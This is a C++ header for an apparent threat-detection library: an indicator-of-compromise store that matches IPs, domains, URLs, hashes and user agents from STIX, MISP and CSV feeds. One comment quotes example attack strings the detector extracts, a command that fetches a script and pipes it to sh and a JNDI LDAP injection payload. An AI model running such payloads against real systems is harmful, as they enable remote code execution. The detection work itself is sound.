// Indicators of compromise: addresses and networks, domains (matching their subdomains too),
// URLs, file hashes and user agents, each with the feed it came from and an optional expiry.
// Imported from STIX 2.1 bundles, MISP event JSON and CSV.
//
//   IocStore iocs;
//   Result<ImportReport> r = ImportIocFile("/etc/rampart/iocs/cert-eu.json", now_ms, &iocs);
//   std::vector<IocMatch> hits;
//   iocs.MatchEvent(ev, now_ms, &hits);
//
// Lookups are hash-table probes (one per distinct network prefix length for addresses, one per
// label for domains), so the cost per event does not depend on the number of indicators. Most
// values looked up are not indicators: bitmaps of the IPv4 /16s and /24s any indicator covers,
// and a QuickFilter in front of each string table, turn those away before any probe. The same
// few hosts come back on every line (the virtual host, the site's own referrer), so each thread
// also remembers the last hosts that no indicator can match; that memo is tied to the store's
// generation, which every Add renews, and holds only answers that do not depend on time.
// Adding is not thread-safe; once filled, const lookups are safe from any number of threads.
#pragma once

#include <cstdint>
#include <map>
#include <memory>
#include <string>
#include <string_view>
#include <unordered_map>
#include <vector>

#include "common/ip.h"
#include "common/status.h"
#include "detect/event.h"
#include "detect/quick_filter.h"

namespace rampart::detect {

enum class IocType : uint8_t { kIp, kDomain, kUrl, kHash, kUserAgent };
std::string_view IocTypeName(IocType type);

// What a feed says of an indicator besides its value: how bad a sighting is and which ATT&CK
// techniques it stands for (a STIX indicator that "indicates" an attack-pattern, a MISP galaxy
// tag, the CSV's columns). An IoC alert takes both.
struct IocContext {
  std::string severity;             // critical, high, medium, low or informational; "" = high
  std::vector<std::string> attack;  // technique ids ("T1190", "T1059.004"), no duplicates
};

struct Ioc {
  IocType type;
  std::string value;  // normalised: lower-case domain/hash, "1.2.3.0/24" for networks
  std::string source;
  int64_t expires_millis = 0;  // 0: never
  std::string severity = "high";
  std::vector<std::string> attack;
};

// "T1190" or "T1059.004": an ATT&CK technique or sub-technique id.
bool IsAttackTechniqueId(std::string_view id);

struct IocMatch {
  const Ioc* ioc;
  Field field;  // the event field that matched
};

class IocStore {
 public:
  IocStore();
  ~IocStore();
  IocStore(const IocStore&) = delete;
  IocStore& operator=(const IocStore&) = delete;

  // Normalises and adds one indicator; InvalidArgument names what is wrong with the value (or
  // with the context's severity or technique ids). Adding the same indicator again keeps the
  // later expiry (0 counts as latest), the new source, the more severe severity and every
  // technique either named.
  Status Add(IocType type, std::string_view value, std::string_view source, int64_t expires_millis,
             const IocContext& context = {});
  size_t size() const { return entries_.size(); }

  // Each returns the matching live indicator, or nullptr. now_millis decides expiry.
  const Ioc* FindIp(const IpAddress& ip, int64_t now_millis) const;
  const Ioc* FindDomain(std::string_view host, int64_t now_millis) const;
  const Ioc* FindUrl(std::string_view url, int64_t now_millis) const;
  const Ioc* FindHash(std::string_view hex, int64_t now_millis) const;
  const Ioc* FindUserAgent(std::string_view agent, int64_t now_millis) const;

  // Looks up source.ip, destination.ip, destination.domain, the referrer's host (as a name, and
  // as an address in any form ParseIp or ParseUrlHostIpv4 reads), the URL and the user agent of
  // the event. Replaces *out.
  void MatchEvent(const Event& ev, int64_t now_millis, std::vector<IocMatch>* out) const;
  // Looks for indicators written inside free text, as an exploit or a log message carries them
  // ("...;curl http://198.51.100.9/x.sh|sh", "${jndi:ldap://evil.example/a}", "query:
  // evil.example A"): the URLs (scheme://...) and their hosts (an address host in any form
  // ParseUrlHostIpv4 reads), IPv4 and IPv6 addresses and domain names in `message`, and, with
  // `payloads`, in the request target (decoded), the user agent and the referrer. Appends to
  // *out what it does not hold yet, with the field the text came from. At most
  // kMaxEmbeddedText bytes of each text are read.
  void MatchEmbedded(const Event& ev, bool payloads, int64_t now_millis,
                     std::vector<IocMatch>* out) const;
  static constexpr size_t kMaxEmbeddedText = 16384;

 private:
  struct IpHash {
    size_t operator()(const IpAddress& ip) const;
  };
  struct StringHash {
    using is_transparent = void;
    size_t operator()(std::string_view s) const { return std::hash<std::string_view>{}(s); }
  };
  // Indicator value → entry, behind a filter that answers most misses without hashing.
  class StringIndex {
   public:
    // The entry slot for key, and whether it was added now.
    std::pair<uint32_t*, bool> Insert(const std::string& key);
    const uint32_t* Find(std::string_view key) const;
    bool empty() const { return map_.empty(); }

   private:
    std::unordered_map<std::string, uint32_t, StringHash, std::equal_to<>> map_;
    QuickFilter filter_{QuickFilter::kCaseSensitive};
  };

  const Ioc* Live(uint32_t idx, int64_t now_millis) const;
  // MatchEmbedded for one text.
  void MatchEmbeddedIn(std::string_view text, Field field, int64_t now_millis,
                       std::vector<IocMatch>* out) const;
  const Ioc* FindIn(const StringIndex& index, std::string_view key, int64_t now_millis) const;
  // False when no URL indicator has this host (compared lower-cased), whatever the time.
  bool UrlHostMayMatch(std::string_view host) const;
  // The table lookups behind FindDomain and UrlHostMayMatch once the per-thread memo has not
  // answered; apart, so that a remembered miss costs no stack buffer (nor its guard).
  [[gnu::noinline]] const Ioc* FindDomainInTable(std::string_view host, int64_t now_millis) const;
  [[gnu::noinline]] bool UrlHostInTable(std::string_view host) const;
  // The URL indicator for the host `domain` followed by the path `target` (which starts with
  // '/'), as FindUrl(domain + target) finds it.
  const Ioc* FindHostAndPath(std::string_view domain, std::string_view target,
                             int64_t now_millis) const;
  void Upsert(uint32_t* slot, bool fresh, Ioc ioc);
  void CoverIpv4(const IpNetwork& net);
  // True when text cannot be an address any indicator matches, decided from its first octets:
  // "a.b." or "a.b.c." whose IPv4 /16 or /24 no network overlaps (such a text is an IPv4
  // address or nothing: IPv6 needs a ':' before any '.'). False means: parse and look it up.
  bool Ipv4PrefixUnlisted(std::string_view text) const;

  std::vector<std::unique_ptr<Ioc>> entries_;
  // Prefix length on the mapped 128-bit form → masked network → entry.
  std::map<int, std::unordered_map<IpAddress, uint32_t, IpHash>, std::greater<>> networks_;
  // Bit per IPv4 /24 that some IPv4 network indicator overlaps; an IPv4 address outside them
  // all matches nothing. The /16 bitmap (8 KiB, stays in cache) answers most addresses first.
  std::vector<uint64_t> v4_slash24_;
  std::vector<uint64_t> v4_slash16_;
  StringIndex domains_, urls_, hashes_, agents_;
  // The hosts of urls_ keys ("" for path-only URLs), to rule most URLs out cheaply.
  StringIndex url_hosts_;
  bool has_path_only_url_ = false;  // url_hosts_ holds ""
  bool has_ipv6_network_ = false;   // networks_ holds an IPv6 address or network
  // Names this store's contents for the per-thread memo of hosts that match nothing: a fresh
  // value at construction and on every Add, never reused by another store.
  uint64_t generation_;
};

struct ImportReport {
  size_t added = 0;
  size_t skipped = 0;
  // Why indicators were skipped, with counts ("pattern uses AND" → 3).
  std::map<std::string, size_t> reasons;
  // For CSV, the first line each reason was met on (1-based).
  std::map<std::string, size_t> first_line;
  void Skip(std::string reason, size_t line = 0) {
    ++skipped;
    if (line != 0) first_line.emplace(reason, line);
    ++reasons[std::move(reason)];
  }
};

// Each importer fails only when the document as a whole is unreadable (not JSON, truncated,
// wrong top-level shape); single indicators it cannot use are counted in the report.
// `source` labels every indicator (usually the file name).
Result<ImportReport> ImportStix(std::string_view json, std::string_view source, int64_t now_millis,
                                IocStore* store);
Result<ImportReport> ImportMisp(std::string_view json, std::string_view source, int64_t now_millis,
                                IocStore* store);
// Lines "type,value[,source,expiry[,severity[,attack]]]"; '#' comments, blank lines and a
// "type,value" header are ignored; expiry is RFC 3339 or Unix seconds; attack is technique ids
// separated by ';' or spaces. Values with commas are double-quoted.
Result<ImportReport> ImportCsv(std::string_view text, std::string_view source, int64_t now_millis,
                               IocStore* store);
// Picks the importer from the extension (.csv) or the JSON content (MISP "Event"/"response",
// else STIX).
Result<ImportReport> ImportIocFile(const std::string& path, int64_t now_millis, IocStore* store);

namespace internal {

// Where the first "://" in s starts, when it starts before `limit`; else npos. A scheme is
// short, so a URL is not searched past it (find("://") searched every referrer to its end).
size_t SchemeSeparator(std::string_view s, size_t limit);

}  // namespace internal

}  // namespace rampart::detect
